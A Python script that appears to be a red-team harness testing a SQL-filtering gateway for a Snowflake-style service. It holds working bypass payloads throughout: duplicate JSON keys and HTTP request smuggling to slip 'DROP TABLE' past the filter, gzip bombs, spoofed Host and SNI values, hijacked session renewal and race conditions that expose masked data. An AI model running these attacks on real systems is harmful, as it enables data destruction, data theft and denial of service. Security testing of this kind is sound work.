"""Tricks on the wire, each by itself; prints what became of each as JSON.

A trick's statements hold its name, so that the server's log tells which of them got there.
"""

import gzip
import json
import socket
import sys
import threading
import time
import uuid
import zlib

from hostile_client import HOST, QUERY, Session, answers, body_of, exchange, head, login_body, login_request, tls

DROP = "DROP TABLE CUSTOMERS"
LOGIN = "/session/v1/login-request"


def path():
    return f"{QUERY}?requestId={uuid.uuid4()}"


def statement(name, sql="SELECT"):
    """A statement that is permitted, with the trick's name in it; or another one."""
    return f"SELECT CITY FROM CUSTOMERS WHERE ID = 1 AND NAME <> '{name}'" if sql == "SELECT" else f"{sql} /* {name} */"


class Tricks:
    """Each method is a trick: it gives an answer, several, or None for a closed connection."""

    def __init__(self):
        self.session = Session()

    def raw(self, body, more=(), at=None):
        return self.session.post(at or path(), body, more=more)

    # --- JSON with more than one reading

    def duplicate_key(self, name):
        good, bad = json.dumps(statement(name)), json.dumps(statement(name, DROP))
        return [self.raw(f'{{"sqlText":{a},"sqlText":{b}}}'.encode()) for a, b in ((good, bad), (bad, good))]

    def duplicate_key_by_escape(self, name):
        return self.raw(f'{{"sqlText":{json.dumps(statement(name))},"sql\\u0054ext":"{DROP}"}}'.encode())

    def duplicate_key_deep(self, name):
        return self.raw(body_of(statement(name))[:-1] + b',"parameters":{"A":1,"A":2}}')

    def two_spellings_of_a_parameter(self, name):
        return self.raw(body_of(statement(name), parameters={"a": 1, "A": 2}))

    def second_document(self, name):
        return self.raw(body_of(statement(name)) + body_of(statement(name, DROP)))

    def not_utf8(self, name):
        return self.raw(body_of(statement(name))[:-1] + b',"x":"\xff"}')

    def utf16(self, name):
        body = body_of(statement(name)).decode().encode("utf-16")
        return [self.raw(body), self.session.post(path(), body, more=[("Content-Type", "application/json; charset=utf-16")])]

    def byte_order_mark(self, name):
        return self.raw(b"\xef\xbb\xbf" + body_of(statement(name)))

    def deep_json(self, name):
        return self.raw(body_of(statement(name))[:-1] + b',"bindings":' + b'{"1":' * 30000 + b"1" + b"}" * 30000 + b"}")

    def unknown_keys(self, name):
        return [self.raw(body_of(statement(name), **{key: statement(name, DROP)})) for key in ("sqltext", "SQLTEXT", "query", "statement")]

    def code_elsewhere(self, name):
        return [self.raw(body_of(statement(name), **{key: "x"})) for key in ("dataframeAst", "bindStage", "describedJobId")]

    # --- what stands beside the text

    def several_statements(self, name):
        text = f"{statement(name)}; {DROP}"
        return [self.raw(body_of(text, parameters={"MULTI_STATEMENT_COUNT": n})) for n in (0, 2)]

    def parameters_that_change_names(self, name):
        return [
            self.raw(body_of(statement(name), parameters={key: value}))
            for key, value in (("quoted_identifiers_ignore_case", True), ("SEARCH_PATH", "x"))
        ]

    def describe_only(self, name):
        return self.raw(body_of(statement(name, DROP), describeOnly=True))

    def asynchronous(self, name):
        return self.raw(body_of(statement(name, DROP), asyncExec=True))

    def internal(self, name):
        return self.raw(body_of(statement(name, DROP), isInternal=True))

    def bindings_that_name_a_table(self, name):
        bindings = {"1": {"type": "TEXT", "value": "CUSTOMERS"}}
        texts = ("SELECT SSN AS X FROM IDENTIFIER(?)", "SELECT SSN AS X FROM TABLE(?)", "EXECUTE IMMEDIATE ?")
        return [self.raw(body_of(statement(name, text), bindings=bindings)) for text in texts]

    # --- content codings

    def gzip_bomb_as_statement(self, name):
        return self.raw(zip_of_spaces(80 << 20), more=[("Content-Encoding", "gzip")])

    def gzip_bomb_without_a_session(self, name):
        more = [("Content-Encoding", "gzip")]
        bomb = zip_of_spaces(5 << 20)
        return [login_request(LOGIN, bomb, more), login_request("/telemetry/send/sessionless", bomb, more)]

    def two_gzip_members(self, name):
        body = gzip.compress(body_of(statement(name)))
        return [self.raw(body + more, more=[("Content-Encoding", "gzip")]) for more in (gzip.compress(body_of(DROP)), b"\0")]

    def two_content_encodings(self, name):
        body = gzip.compress(body_of(statement(name)))
        pairs = (("gzip", "identity"), ("identity", "gzip"), ("gzip", "gzip"))
        return [self.raw(body, more=[("Content-Encoding", a), ("Content-Encoding", b)]) for a, b in pairs]

    def other_content_encodings(self, name):
        body = body_of(statement(name))
        cases = (("gzip, gzip", gzip.compress(gzip.compress(body))), ("deflate", zlib.compress(body)), ("br", body))
        return [self.raw(packed, more=[("Content-Encoding", coding)]) for coding, packed in cases]

    def gzip_without_a_word(self, name):
        return self.raw(gzip.compress(body_of(statement(name))))

    def coding_hidden_by_connection(self, name):
        body = gzip.compress(body_of(statement(name)))
        return self.raw(body, more=[("Content-Encoding", "gzip"), ("Connection", "content-encoding, content-type")])

    # --- where a request ends

    def chunked(self, name):
        return self.framed(name, [("Transfer-Encoding", "chunked")], chunks(body_of(statement(name))))

    def length_and_chunked(self, name):
        """Whoever goes by the length sees a second request."""
        hidden = head(path(), self.session.headers(b"")) + body_of(statement(name, DROP))
        framing = [("Content-Length", 5), ("Transfer-Encoding", "chunked")]
        return self.framed(name, framing, chunks(body_of(statement(name))) + hidden)

    def chunked_twice(self, name):
        framing = [("Transfer-Encoding", "chunked"), ("Transfer-Encoding", "identity")]
        return self.framed(name, framing, chunks(body_of(statement(name))))

    def chunked_misspelt(self, name):
        return self.framed(name, [("Transfer-Encoding", "xchunked")], chunks(body_of(statement(name))))

    def two_lengths(self, name):
        body = body_of(statement(name))
        return self.framed(name, [("Content-Length", len(body)), ("Content-Length", len(body) - 1)], body)

    def odd_length(self, name):
        body = body_of(statement(name))
        return [self.framed(name, [("Content-Length", f"{sign}{len(body)}")], body) for sign in ("+", "-", "0x")]

    def folded_header(self, name):
        body = body_of(statement(name))
        return self.framed(name, [("Content-Length", len(body)), ("X-A", "b\r\n Content-Length: 1")], body)

    def pipelined(self, name):
        first, second = body_of(statement(name)), body_of(statement(name, DROP))
        request = b"".join(head(path(), self.session.headers(body)) + body for body in (first, second, first))
        return exchange(request, 3)

    def cut_short(self, name):
        body = body_of(statement(name))
        with tls() as connection:
            connection.sendall(head(path(), self.session.headers(body + b" ")) + body)
            connection.shutdown(socket.SHUT_WR)
            found = answers(connection)
            return found[0] if found else None

    def framed(self, name, framing, body):
        headers = [pair for pair in self.session.headers(b"") if pair[0] != "Content-Length"]
        found = exchange(head(path(), headers + framing) + body)
        return found[0] if found else None

    # --- where a request goes

    def absolute_form(self, name):
        return self.aimed(name, f"https://brief.snowflakecomputing.com{path()}")

    def other_host_header(self, name):
        body = body_of(statement(name))
        headers = [("Host", "brief.snowflakecomputing.com")] + self.session.headers(body)[1:]
        found = exchange(head(path(), headers) + body)
        return found[0] if found else None

    def two_host_headers(self, name):
        return self.aimed(name, path(), more=[("Host", "evil.example")])

    def old_http(self, name):
        return self.aimed(name, path(), version="HTTP/1.0")

    def http2_preface(self, name):
        found = exchange(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + b"\0" * 64)
        return found[0] if found else None

    def upgrade(self, name):
        return [
            self.aimed(name, path(), more=[("Connection", f"Upgrade{more}"), ("Upgrade", to)])
            for to, more in (("h2c", ", HTTP2-Settings"), ("websocket", ""), ("TLS/1.2", ""))
        ]

    def method_override(self, name):
        return self.aimed(name, path(), sql=DROP, more=[("X-HTTP-Method-Override", "GET")])

    def other_methods(self, name):
        return [self.aimed(name, path(), method=method) for method in ("GET", "PUT", "PATCH", "DELETE", "OPTIONS", "HEAD", "TRACE", "post", "QUERY")]

    def connect(self, name):
        found = exchange(head(f"{HOST}:443", [("Host", HOST)], "CONNECT"), method="CONNECT")
        return found[0] if found else None

    def paths_that_look_alike(self, name):
        query = f"?requestId={uuid.uuid4()}"
        alike = (
            "/QUERIES/v1/query-request", "//queries/v1/query-request", "/queries/v1/query-request/", "/queries/v1/./query-request",
            "/x/../queries/v1/query-request", "/queries%2fv1/query-request", "/queries/v1/query%2Drequest", "/queries/v1/query-request;x=1",
            "/queries/v1/query-request%00", "/queries/v2/query-request", "/queries\\v1\\query-request",
        )
        return [self.aimed(name, one + query) for one in alike]

    def doors(self, name):
        """Other ways in that Snowflake has."""
        some = uuid.uuid4()
        posts = ("/api/v2/statements", "/api/v2/databases/ANALYTICS/schemas/PUBLIC/tables/CUSTOMERS:clone", "/session/authenticator-request",
                 "/oauth/token-request", "/session", "/session?delete=false", "/v1/data/pipes/x/insertFiles", "/queries/v1/", "/")
        gets = (f"/queries/{some}/result", f"/monitoring/queries/{some}", f"/api/v2/statements/{some}", "/", "/console/login", "/.well-known/x")
        return [self.aimed(name, one) for one in posts] + [self.aimed(name, one, method="GET") for one in gets]

    def aimed(self, name, target, method="POST", version="HTTP/1.1", sql="SELECT", more=()):
        body = body_of(statement(name, sql))
        found = exchange(head(target, [*self.session.headers(body), *more], method, version) + body, method=method)
        return found[0] if found else None

    # --- request ids

    def request_id_with_other_text(self, name):
        request = uuid.uuid4()
        first = self.session.ask(statement(name), request)
        return [first, self.session.ask(statement(name), request), self.session.ask(statement(name) + " ", request)]

    def request_id_with_other_binding(self, name):
        request, value = uuid.uuid4(), {"type": "TEXT", "value": "a"}
        first = self.session.ask(statement(name), request, bindings={"1": value})
        return [first, self.session.ask(statement(name), request, bindings={"1": {**value, "value": "b"}})]

    def two_request_ids(self, name):
        a, b = uuid.uuid4(), uuid.uuid4()
        queries = (f"requestId={a}&requestId={b}", f"requestId={a}&request_id={b}", f"requestId={a}&%72equestId={b}",
                   f"requestId={str(a).upper()}", f"requestId={{{a}}}", f"requestId={a.hex}", "requestId=1")
        return [self.raw(body_of(statement(name)), at=f"{QUERY}?{query}") for query in queries]

    # --- sessions

    def no_session(self, name):
        tokens = ("None", "x", "x" * 5000, "a\" Token=\"b")
        return [self.session.post(path(), body_of(statement(name)), token=token) for token in tokens]

    def two_authorizations(self, name):
        return self.raw(body_of(statement(name)), more=[("Authorization", 'Snowflake Token="None"')])

    def other_credentials(self, name):
        def with_authorization(value, more=()):
            body = body_of(statement(name))
            headers = [pair for pair in self.session.headers(body) if pair[0] != "Authorization"]
            found = exchange(head(path(), [*headers, ("Authorization", value), *more]) + body)
            return found[0] if found else None

        return [
            with_authorization("Bearer x.y.z"), with_authorization("Basic dTpw"), with_authorization(f"snowflake token={self.session.token}"),
            with_authorization(f'Snowflake Token="{self.session.token}"', [("X-Snowflake-Authorization-Token-Type", "KEYPAIR_JWT")]),
        ]

    def renewal_of_another_session(self, name):
        other = Session()

        def renew(master, old, **more):
            body = json.dumps({"oldSessionToken": old, "requestType": "RENEW", **more}).encode()
            return self.session.post("/session/token-request", body, token=master)

        return [
            renew(self.session.master, other.token), renew("x", self.session.token), renew(self.session.master, "x"),
            renew(self.session.master, self.session.token, requestType="CLONE"), renew(self.session.master, self.session.token, x=1),
        ]

    def retry_under_other_names(self, name):
        """A retry after the session has moved: the rows are still those of the first table, and masked as they were."""
        session, request = Session(), uuid.uuid4()
        sql = f"SELECT EMAIL AS X FROM CUSTOMERS ORDER BY ID LIMIT 2 /* {name} */"
        first = session.ask(sql, request)
        moved = session.ask("USE DATABASE MEMORY")
        return [first, moved, session.ask(sql, request)]

    def use_beside_a_statement(self, name):
        """A statement that is judged while the session is elsewhere, and executed when it is back."""
        session, found = Session(), []
        sql = f"SELECT EMAIL AS X FROM CUSTOMERS ORDER BY ID LIMIT 2 /* {name} */"
        for _ in range(8):
            session.ask("USE DATABASE MEMORY")
            together = [threading.Thread(target=lambda text=text: found.append(session.ask(text)))
                        for text in ("USE SCHEMA ANALYTICS.PUBLIC", sql, sql)]
            for thread in together:
                thread.start()
            for thread in together:
                thread.join()
        return [answer for answer in found if answer]

    # --- logins

    def logins(self, name):
        body = login_body()
        cases = [
            (LOGIN, body[:-2] + b',"PASSWORD":"x"}}'), (LOGIN, login_body(NEW_KEY="x")), (LOGIN, login_body(ACCOUNT_NAME="brief")),
            (LOGIN, login_body(CHOSEN_NEW_PASSWORD="x")), (LOGIN, login_body({"SEARCH_PATH": "x"})), (LOGIN, login_body({"A": {}})),
            (LOGIN, b"{}"), (LOGIN, b""), (f"{LOGIN}?roleName=a&roleName=b", body), (f"{LOGIN}?x=%zz", body),
        ]
        return [login_request(*case) for case in cases]

    # --- names in the handshake

    def server_name_in_capitals(self, name):
        return self.under(name, HOST.upper())

    def other_server_names(self, name):
        names = (None, "evil.example", "brief.snowflakecomputing.com", "snowflakecomputing.com", "x." + HOST, HOST.split(".", 1)[0])
        return [self.under(name, one) for one in names]

    def other_protocols(self, name):
        return self.under(name, HOST, ["h2"])

    def under(self, name, server_name, alpn=()):
        body = body_of(statement(name))
        try:
            with tls(server_name, alpn) as connection:
                connection.sendall(head(path(), self.session.headers(body)) + body)
                found = answers(connection)
        except OSError:
            return None
        return found[0] if found else None

    # --- noise

    def telemetry(self, name):
        bodies = (b"", b"[]", b'{"logs":{}}', b"\x00" * 1000, b'{"logs":[],"logs":[]}')
        return [login_request("/telemetry/send/sessionless", body) for body in bodies]

    def too_large(self, name):
        return login_request("/telemetry/send/sessionless", b" " * (5 << 20))

    def huge_head(self, name):
        return [self.aimed(name, path(), more=[("X-A", "a" * (1 << 20))]), self.aimed(name, path(), more=[(f"X-{n}", "a") for n in range(2000)]),
                self.aimed(name, path() + "&x=" + "a" * (1 << 20))]

    def not_http(self, name):
        noise = (b"\0" * 4096, b"GET\r\n\r\n", b"POST / HTTP/9.9\r\n\r\n", b"\x16\x03\x01" * 100)
        return [found[0] if (found := exchange(one + b"\r\n\r\n")) else None for one in noise]

    def texts_that_cost_the_parser(self, name):
        texts = ("SELECT " + "POSITION(" * 50 + "1" + ")" * 50, "SELECT * FROM CUSTOMERS" + " JOIN CUSTOMERS" * 900,
                 "CREATE PROCEDURE P() AS " + "BEGIN " * 200, "SELECT F(" + "(A, B) -> " * 40 + "]", "SELECT 1" + " + 1" * 300_000)
        return [self.session.ask(text) for text in texts]


def zip_of_spaces(size):
    packer = zlib.compressobj(wbits=31)
    piece = packer.compress(b" " * (1 << 20))
    return piece + b"".join(packer.compress(b" " * (1 << 20)) for _ in range((size >> 20) - 1)) + packer.flush()


def chunks(body):
    half = len(body) // 2
    return b"".join(b"%x\r\n%s\r\n" % (len(part), part) for part in (body[:half], body[half:], b""))


def main():
    tricks = Tricks()
    names = sys.argv[1:] or [name for name in vars(Tricks) if name[0] != "_" and name not in ("raw", "framed", "aimed", "under")]
    for name in names:
        start = time.monotonic()
        found = getattr(tricks, name)(name)
        found = found if isinstance(found, list) else [found]
        shown = [answer.shown() if answer else None for answer in found]
        print(json.dumps({"trick": name, "answers": shown, "seconds": time.monotonic() - start}), flush=True)


main()
